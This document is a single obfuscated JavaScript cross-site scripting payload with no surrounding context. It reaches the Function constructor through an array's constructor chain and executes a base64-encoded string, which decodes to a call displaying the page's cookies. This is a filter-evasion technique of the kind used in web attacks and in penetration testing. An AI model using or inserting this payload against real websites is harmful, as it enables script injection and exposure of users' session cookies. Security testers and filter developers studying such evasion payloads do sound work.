[]["constructor"]["constructor"](atob("YWxlcnQoZG9jdW1lbnQuY29va2llKQ=="))();
